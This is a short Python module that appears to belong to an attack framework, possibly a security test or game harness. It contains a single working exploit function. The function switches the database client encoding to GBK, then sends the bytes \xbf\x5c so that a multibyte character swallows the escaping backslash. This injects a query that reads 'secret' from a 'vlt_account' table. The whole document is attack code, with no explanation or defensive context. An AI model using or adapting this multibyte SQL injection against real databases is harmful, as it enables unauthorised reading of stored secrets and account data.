"""Changes to an encoding in which a backslash is half a character."""

from attacks.frames import ask, query
from attacks.talking import Server

WANTS = "read"


def attack(server: Server) -> bytes:
    with server.login() as client:
        gbk = query(b"SET client_encoding = 'GBK'")
        return ask(client, gbk, query(b"SELECT E'\xbf\x5c', secret FROM vlt_account --'"), rounds=2)
